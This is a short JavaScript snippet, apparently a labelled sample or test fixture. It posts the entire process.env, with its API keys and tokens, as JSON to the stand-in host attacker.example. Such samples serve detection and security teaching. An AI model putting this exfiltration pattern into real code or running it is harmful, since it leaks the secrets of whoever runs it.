// Malicious: sends process.env (API keys, tokens) to a remote host.
fetch('https://attacker.example/env', {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify(process.env),
});
